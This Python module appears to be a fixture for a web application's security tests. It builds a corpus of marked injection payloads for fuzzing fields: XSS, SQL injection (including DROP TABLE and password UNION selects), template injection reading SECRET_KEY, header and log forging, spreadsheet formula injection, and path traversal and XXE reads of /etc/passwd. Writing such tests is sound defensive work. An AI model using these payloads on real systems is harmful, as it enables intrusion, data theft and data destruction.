"""What somebody may write in a field to make it something else than a text.

Each string holds a mark of its own (« zx~07 »): where the mark is shown, the whole string must be.
The ones with markup call `ran`, which the browser of the tests defines.
"""

import random
from dataclasses import dataclass

RUN = "ran"
"""The function that a payload calls in a browser: it was executed if it was called."""
FORGED = "1999-12-31 23:59:59,999 CRITICAL jalons.journal"
"""How the lines that a payload forges would begin in a log."""
HEADER = "X-Injected"

MARKUP = (
    '<script>ran("MARK")</script>',
    '"><script>ran("MARK")</script>',
    "'><img src=x onerror=\"ran('MARK')\">",
    "<svg/onload=ran('MARK')>",
    "</title></textarea></noscript><script>ran('MARK')</script>",
    "--><script>ran('MARK')</script><!--",
    '" autofocus onfocus="ran(\'MARK\')" x="',
    "' autofocus onmouseover='ran(\"MARK\")' onfocus='ran(\"MARK\")",
    "` onfocus=ran('MARK') autofocus ",
    "javascript:ran('MARK')",
    "\tJaVaScRiPt:ran('MARK')//https://zx.example/",
    "data:text/html,<script>parent.ran('MARK')</script>",
    "//zx.example/MARK",
    "\\\\zx.example\\MARK",
    "\";ran('MARK');//",
    '\';ran("MARK");//',
    "</script><script>ran('MARK')</script>",
    "${ran('MARK')}`\\u003cscript\\u003e",
    "<iframe srcdoc=\"<script>parent.ran('MARK')</script>\"></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=ran('MARK')>",
    "<a href=\"javascript:ran('MARK')\">MARK</a>",
    "<style>@import '//zx.example/MARK';</style>",
    '<meta http-equiv=refresh content="0;url=//zx.example/MARK">',
    '<base href="//zx.example/MARK/">',
    "<p data-hx-get='/zx/MARK' data-hx-trigger=load data-hx-on::load=ran('MARK')>MARK</p>",
    '<form action="//zx.example/MARK"><input name=password></form>',
    "&lt;script&gt;ran('MARK')&lt;/script&gt;",
    "\ufe64script\ufe65ran('MARK')\uff1c/script\uff1e",
)
STATEMENTS = (
    "MARK' OR '1'='1",
    "MARK'; DROP TABLE people_person; --",
    'MARK" OR ""="',
    "MARK') UNION SELECT password FROM accounts_account --",
    "MARK\\'; SELECT pg_sleep(9); --",
    "1; SELECT pg_sleep(9) /* MARK */",
    "MARK $$; SELECT 1; $$ %s %(MARK)s %d {0} {MARK}",
    '{"MARK": {"__proto__": ["a", null]}}',
)
TEMPLATES = (
    "{{ 7|add:1330 }} MARK",
    '{% now "Y" %} MARK {% endblock %}{% include "kernel/404.html" %}',
    "{{ request.actor.account }} {{ settings.SECRET_KEY }} MARK {# rien #}",
    "<c-button>MARK</c-button><c-vars x='{{ MARK }}' />",
)
HEADERS = (
    f"MARK\r\n{HEADER}: oui\r\n\r\n<p>MARK</p>",
    f"MARK%0d%0a{HEADER}:%20oui",
    f"MARK\n{HEADER}: oui\nBcc: zx@jalons.example",
    f"MARK@jalons.example\r\n{HEADER}: oui",
)
PATTERNS = ("MARK%", "_MARK_", "MARK\\", "%MARK_\\%", "[MARK]*", "^MARK.*$")
LOG_LINES = (
    f"MARK\n{FORGED} MARK",
    f"MARK\r{FORGED} MARK",
    "MARK\x1b[2J\x1b]0;MARK\x07\x1b[31mMARK",
    f"MARK\u2028{FORGED}\x85{FORGED}\x0b{FORGED} MARK",
)
ODD = (
    "MARK\x00nul",
    "MARK\x08\x7f\x1f",
    "MARK" + "a" * 20_000,
    "MARK\u202etxt.exe\u2066\u2069",
    "M\u200bMARK\u200d\ufeff\u2060",
    "MARK" + "\u0301" * 60,
    "MARK \U0001f9d1\U0001f3ff\u200d\U0001f680 \ufffd\uffff",
    "MARK 0x7fffffff 1e309 -0 NaN \u0663",
)
FORMULAS = (
    '=1+1+"MARK"',
    '+1+"MARK"',
    "-2+3+MARK!A1",
    "@SUM(MARK)",
    '\t=1+1+"MARK"',
    '=HYPERLINK("https://zx.example/MARK","MARK")',
    "=cmd|' /C calc'!MARK",
    '\uff1d1+1+"MARK"',
)
PATHS = (
    "../../../../etc/passwd#MARK",
    "..\\..\\MARK",
    "file:///etc/MARK",
    "%2e%2e%2f%2e%2e%2fMARK%00.txt",
    "/MARK" + "b" * 20_000,
    "accounts:logout?MARK",
    '<!DOCTYPE MARK [<!ENTITY e SYSTEM "file:///etc/passwd">]><MARK>&e;</MARK>',
)

KINDS: dict[str, tuple[str, ...]] = {
    "markup": MARKUP,
    "statement": STATEMENTS,
    "template": TEMPLATES,
    "header": HEADERS,
    "pattern": PATTERNS,
    "log": LOG_LINES,
    "odd": ODD,
    "formula": FORMULAS,
    "path": PATHS,
}


@dataclass(frozen=True)
class Payload:
    kind: str
    mark: str
    text: str


def _payloads() -> list[Payload]:
    pairs = [(kind, text) for kind, texts in KINDS.items() for text in texts]
    return [
        Payload(kind, f"zx~{number:02}", text.replace("MARK", f"zx~{number:02}"))
        for number, (kind, text) in enumerate(pairs)
    ]


CORPUS = _payloads()
BY_MARK = {payload.mark: payload for payload in CORPUS}


def drawn(place: str, most: int | None) -> list[Payload]:
    """The whole corpus (`most` is None), or as many strings: always the same ones for a place.

    Every kind has its turn before any comes back.
    """
    if most is None:
        return CORPUS
    draw = random.Random(place)
    by_kind = {kind: [each for each in CORPUS if each.kind == kind] for kind in KINDS}
    kinds = draw.sample(list(KINDS), len(KINDS))
    return [draw.choice(by_kind[kinds[number % len(kinds)]]) for number in range(most)]
